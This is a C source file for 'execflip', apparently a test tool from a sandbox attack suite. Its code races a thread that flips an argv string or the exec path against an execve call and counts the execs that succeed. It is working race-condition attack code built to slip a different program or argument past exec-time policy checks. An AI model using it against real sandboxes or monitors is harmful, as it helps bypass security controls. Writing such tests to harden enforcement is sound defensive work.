/* A thread flips one argv string (or the path) while the main thread execs, in a fresh child per
 * attempt: execflip argv|path N PROGRAM_A PROGRAM_B ARG_INDEX WORD_A WORD_B ARGS…
 * argv mode: exec PROGRAM_A with ARGS, argv[ARG_INDEX] flipping between WORD_A and WORD_B.
 * path mode: exec PROGRAM_A/PROGRAM_B (same length) alternately, ARGS unchanged. */
#include "attack.h"

static volatile char *target;
static const char *wa, *wb;
static size_t wl;
static volatile long flips;

static void *flipper(void *unused) {
    (void)unused;
    for (;;) {
        memcpy((char *)target, wa, wl);
        memcpy((char *)target, wb, wl);
        flips++;
    }
    return 0;
}

int main(int argc, char **argv) {
    need(argc, 9, "execflip argv|path N PROGRAM_A PROGRAM_B ARG_INDEX WORD_A WORD_B ARGS…");
    const char *mode = argv[1];
    int n = atoi(argv[2]);
    const char *pa = argv[3], *pb = argv[4];
    int idx = atoi(argv[5]);
    char **args = &argv[8];
    int wins = 0;
    for (int i = 0; i < n; i++) {
        pid_t p = fork();
        if (p == 0) {
            static char path[4096];
            strcpy(path, pa);
            if (strcmp(mode, "argv") == 0) {
                wa = argv[6]; wb = argv[7]; wl = strlen(wa) + 1;
                static char word[256];
                strcpy(word, wa);
                args[idx] = word;
                target = word;
            } else {
                wa = pa; wb = pb; wl = strlen(pa) + 1;
                target = path;
            }
            pthread_t t;
            pthread_create(&t, 0, flipper, 0);
            while (flips < 200) {}  // the race is on before the exec starts
            extern char **environ;
            syscall(SYS_execve, path, args, environ);
            _exit(111);
        }
        int st;
        waitpid(p, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) wins++;
    }
    printf("attempts %d, execs that ran %d\n", n, wins);
    return 0;
}
